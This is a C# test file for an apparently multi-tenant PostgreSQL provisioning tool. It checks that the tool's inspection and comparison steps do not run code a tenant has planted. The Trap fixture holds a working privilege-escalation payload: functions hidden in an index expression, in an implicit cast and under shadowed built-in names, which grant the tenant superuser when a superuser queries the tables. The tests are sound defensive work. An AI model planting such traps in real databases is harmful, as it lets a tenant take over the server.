using Provisioner.Moves;
using Provisioner.Postgres;

namespace Provisioner.Tests.Moves;

/// <summary>
/// Code a tenant planted where a superuser who looks at its database might run it: in the expression of an index, which the planner
/// works out; in a cast of the row of a table; under names of PostgreSQL's own functions.
/// </summary>
public sealed class PlantedCodeTests(TwoServers servers) : IClassFixture<TwoServers>
{
    [Fact]
    public async Task Neither_a_look_nor_a_comparison_runs_a_tenants_code()
    {
        var name = await servers.PairAsync();
        await servers.OnTargetAsync(name, "select 1");
        await Sql.ExecuteAsync(await servers.World.OwnerAsync(name), Trap(name));
        await using var source = await DatabaseSnapshot.TakeAsync(servers.Source, name, default);
        await using var target = await DatabaseSnapshot.TakeAsync(servers.Target, name, default);

        await new MovePreflight { Watch = TimeSpan.Zero }.InspectAsync(servers.Source, name, servers.Target, default);
        var report = await RowComparison.CompareAsync(source, target, null, default);

        report.Differences.Select(d => d.Table).ShouldContain("public.victim");
        (await IsSuperuserAsync(name)).ShouldBeFalse();
    }

    [Theory]
    [InlineData("select count(*) from public.victim")]
    [InlineData("select v::text from public.victim_row v")]
    [InlineData("select pg_database_size(name) from public.victim_name")]
    public async Task The_trap_would_catch_a_superuser_who_asks_the_usual_way(string query)
    {
        var name = await servers.TenantAsync();
        await Sql.ExecuteAsync(await servers.World.OwnerAsync(name), Trap(name));

        await servers.OnSourceAsync(name, query);

        (await IsSuperuserAsync(name)).ShouldBeTrue();
    }

    private async Task<bool> IsSuperuserAsync(TenantDatabaseName name) =>
        (bool)(await Sql.ScalarAsync(servers.World.Admin, $"select rolsuper from pg_roles where rolname = '{name.Login}'"))!;

    /// <summary>Whoever springs it as a superuser makes the tenant's login one. The index is made while the function is harmless.</summary>
    private static string Trap(TenantDatabaseName name) =>
        $"""
        create function spring() returns bool language plpgsql as $$
        begin
          if (select rolsuper from pg_catalog.pg_roles where rolname = current_user) then
            execute 'alter role "{name.Login}" superuser';
          end if;
          return true;
        end $$;
        create function constant(int) returns int language plpgsql immutable as $$ begin perform public.spring(); return 1; end $$;
        create table victim (id int primary key);
        insert into victim values (1);
        create index on victim ((constant(1)));
        create table victim_row (id int primary key);
        insert into victim_row values (1);
        create function written(victim_row) returns text language plpgsql as $$ begin perform public.spring(); return 'x'; end $$;
        create cast (victim_row as text) with function written(victim_row) as implicit;
        create table victim_name (name text);
        insert into victim_name values ('postgres');
        create function pg_database_size(text) returns bigint language plpgsql as $$ begin perform public.spring(); return 1; end $$;
        create function format(text, name, name) returns text language plpgsql as $$ begin perform public.spring(); return 'x'; end $$;
        """;
}
